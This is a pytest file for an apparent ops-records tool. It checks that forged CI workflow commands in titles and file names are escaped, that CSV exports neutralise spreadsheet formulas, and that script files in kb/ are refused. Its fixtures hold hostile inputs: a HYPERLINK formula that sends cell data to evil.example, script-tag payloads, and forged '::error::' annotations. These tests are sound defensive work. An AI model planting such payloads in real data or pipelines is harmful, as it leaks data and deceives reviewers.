"""Hostile pull requests aimed past the records: CI output forged from a title or a file name,
spreadsheet formulas in CSV, files in kb/ the site would publish as they are, a site build
without the plugin, and an ID collision fixed after the base was merged into the branch."""

from __future__ import annotations

import csv
import io
import re
import subprocess
import sys
from pathlib import Path

import pytest
from workflow_support import ROOT, Opsbook, at, commit_all, edit, git

ANNOTATION = re.compile(r"::(error|warning) file=[^,:\r\n]*,line=\d+,col=\d+,title=[a-z-]+::[^\r\n]*")
FORGED_NAME = "records/incidents/INC-0099\n::error file=a.yaml::forged by a file name.yaml"
FORGED_TITLE = "title: |\n  Checkout slow\n  ::error::forged by a title\n  ##[warning]legacy form\n"


def _forge(repo: Path) -> None:
    (repo / "records/incidents/INC-0098.yaml").write_text(
        "id: INC-0098\n" + FORGED_TITLE + "status: new\nservice: SVC-0001\nimpact: low\nurgency: low\n")
    (repo / FORGED_NAME).write_text("id: INC-0099\ntitle: x\n")


def _assert_no_forged_command(output: str) -> None:
    for line in output.split("\n"):
        if ANNOTATION.fullmatch(line):
            continue  # opsbook's own annotation: its data is %-escaped, on one line
        assert not line.lstrip().startswith(("::", "##[")), line
        assert "\r" not in line


@pytest.mark.parametrize("command", [("validate", "--format", "github"), ("check", "--base", "main", "--format", "github")])
def test_a_forged_workflow_command_in_a_title_or_file_name_stays_data(
        repo: Path, opsbook: Opsbook, monkeypatch: pytest.MonkeyPatch, command: tuple[str, ...]) -> None:
    _forge(repo)
    summary = repo.parent / "summary.md"
    monkeypatch.setenv("GITHUB_ACTIONS", "true")
    monkeypatch.setenv("GITHUB_STEP_SUMMARY", str(summary))
    result = opsbook(*command)
    assert result.exit_code == 1
    _assert_no_forged_command(result.output)
    assert "\\::error file=a.yaml::forged by a file name.yaml" in result.output  # shown, escaped
    assert "file=records/incidents/INC-0099%0A%3A%3Aerror file=a.yaml%3A%3Aforged by a file name.yaml," in result.output
    rows = [line for line in summary.read_text().splitlines() if line.startswith("|")]
    widths = {len(re.findall(r"(?<!\\)\|", row)) for row in rows}
    assert len(widths) <= 2 and rows and "<" not in summary.read_text().replace("\\<", "")


def test_check_shows_a_forged_title_escaped_in_the_change_set(repo: Path, opsbook: Opsbook) -> None:
    _forge(repo)
    result = opsbook("check", "--base", "main", "--format", "github")
    assert "\n\\::error::forged by a title" not in result.output  # titles are one line in the change set
    assert "INC-0098  Checkout slow ::error::forged by a title ##[warning]legacy form  [incident]: created" \
        in result.output


def _csv_rows(output: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(output)))


def test_csv_outputs_neutralise_spreadsheet_formulas(repo: Path, opsbook: Opsbook) -> None:
    edit(repo / "records/problems/PRB-0001.yaml", "title: Connection pool exhaustion on pg-core-01",
         "title: '=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")'")
    edit(repo / "records/incidents/INC-0001.yaml", "title: Portal login fails for all customers",
         "title: '@SUM(1+1)'")
    listed = _csv_rows(opsbook("list", "problems", "--format", "csv").output)
    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")" in listed[1]
    incidents = _csv_rows(opsbook("list", "incidents", "--format", "csv").output)
    assert "'@SUM(1+1)" in incidents[1]
    report = opsbook("report", "problems", "--format", "csv", "--as-of", "2026-06-01").output
    cells = [cell for row in _csv_rows(report) for cell in row]
    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")" in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r"))]
    assert not [cell for cell in cells if cell.startswith("-") and not re.fullmatch(r"-[0-9.]+", cell)]


def test_a_file_in_kb_that_is_no_article_or_image_is_refused(repo: Path, opsbook: Opsbook) -> None:
    (repo / "kb/page.html").write_text("<script>alert(1)</script>\n")
    (repo / "kb/diagram.png").write_bytes(b"\x89PNG\r\n\x1a\n")
    (repo / "kb/.hidden.js").write_text("alert(1)\n")
    message = "error: kb/ holds articles (<ID>-<slug>.md) and .png, .jpg, .jpeg, .gif, .webp, .avif files only"
    for command in (("validate",), ("check", "--base", "main")):
        result = opsbook(*command)
        assert result.exit_code == 1
        assert f"kb/page.html:1:1: {message}" in result.output and f"kb/.hidden.js:1:1: {message}" in result.output
        assert "kb/diagram.png" not in result.output


def test_stray_record_files_are_reported(repo: Path, opsbook: Opsbook) -> None:
    (repo / "INC-0042.yaml").write_text("id: INC-0042\n")
    (repo / "incidents").mkdir()
    (repo / "records/incidents/.INC-0043.yml").write_text("id: INC-0043\n")
    (repo / "records/incidents/old").mkdir()
    (repo / "records/tickets").mkdir()
    output = opsbook("check", "--base", "main").output
    assert "INC-0042.yaml:1:1: error: a record file at the repository root is read by nothing; records live in " \
           "records/incidents/ [file-stray]" in output
    assert "incidents:1:1: error: a folder named like a kind's folder outside records/" in output
    for path in ("records/incidents/.INC-0043.yml", "records/incidents/old", "records/tickets"):
        assert f"{path}:1:1: error: records live in records/<folder>/<ID>.yaml" in output


def _site(repo: Path, *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "mkdocs", "build", *args], cwd=repo, text=True,
                          capture_output=True, env={"NO_MKDOCS_2_WARNING": "1", "PATH": "/usr/bin:/bin"},
                          check=False)


def test_the_site_never_copies_a_kb_file_that_is_no_article_or_image(repo: Path) -> None:
    copy_site_config(repo)
    (repo / "kb/page.html").write_text("<script>alert(1)</script>\n")
    (repo / "kb/diagram.png").write_bytes(b"\x89PNG\r\n\x1a\n")
    strict = _site(repo, "--strict")
    assert strict.returncode == 1 and "kb/page.html:1:1: error" in strict.stderr
    assert _site(repo).returncode == 0  # not strict: the page is still left out
    assert (repo / "site/diagram.png").is_file() and not (repo / "site/page.html").exists()


def copy_site_config(repo: Path) -> None:
    (repo / "mkdocs.yml").write_text((ROOT / "mkdocs.yml").read_text())


def test_dropping_the_plugin_is_a_governance_change_and_build_refuses(repo: Path, opsbook: Opsbook) -> None:
    git(repo, "checkout", "-q", "main")
    copy_site_config(repo)
    commit_all(repo, "site")
    git(repo, "checkout", "-q", "work")
    git(repo, "merge", "-q", "main")
    edit(repo / "mkdocs.yml", "  - opsbook\n", "")
    article = repo / "kb/KB-0001-restart-the-pool.md"
    article.write_text(article.read_text() + "<script>alert(1)</script>\n")
    result = opsbook("check", "--base", "main")
    assert result.exit_code == 1
    assert "mkdocs.yml:1:1: error: governance change: mkdocs.yml modified" in result.output
    built = opsbook("build")
    assert built.exit_code == 2
    assert "mkdocs.yml does not configure the opsbook plugin" in built.output
    assert not (repo / "site").exists()
    edit(repo / "mkdocs.yml", "plugins:\n", "plugins:\n  - opsbook\n")
    assert opsbook("build", "--no-strict").exit_code == 2


def test_renumber_works_after_the_base_was_merged_into_the_branch(repo: Path, opsbook: Opsbook) -> None:
    git(repo, "checkout", "-q", "main")
    (repo / "kb/KB-0002-rotate-certificates.md").write_text(
        "---\nid: KB-0002\ntitle: Rotate certificates\nstatus: draft\nupdated: 2026-05-12\n---\nText.\n")
    edit(repo / "records/incidents/INC-0001.yaml", "  - KB-0001", "  - KB-0001\n  - KB-0002")
    commit_all(repo, "KB-0002 on main")
    git(repo, "checkout", "-q", "work")
    mine = repo / "kb/KB-0002-portal-faq.md"
    mine.write_text("---\nid: KB-0002\ntitle: Portal FAQ\nstatus: draft\nupdated: 2026-05-12\n---\nSee KB-0002.\n")
    commit_all(repo, "my KB-0002")
    git(repo, "merge", "-q", "--no-edit", "main")  # "update branch"
    refused = opsbook("check", "--base", "main")
    assert refused.exit_code == 1
    assert f"kb/KB-0002-portal-faq.md:{at(mine, 'KB-0002')}: error: KB-0002 is added on this branch" in refused.output
    moved = opsbook("renumber", "KB-0002", "--base", "main")
    assert moved.exit_code == 0, moved.output
    assert "KB-0002 -> KB-0003: renamed kb/KB-0002-portal-faq.md to kb/KB-0003-portal-faq.md" in moved.output
    assert "See KB-0003." in (repo / "kb/KB-0003-portal-faq.md").read_text()
    assert "  - KB-0002" in (repo / "records/incidents/INC-0001.yaml").read_text()  # the base's, untouched
    assert "id: KB-0002" in (repo / "kb/KB-0002-rotate-certificates.md").read_text()
    assert opsbook("check", "--base", "main").exit_code == 0
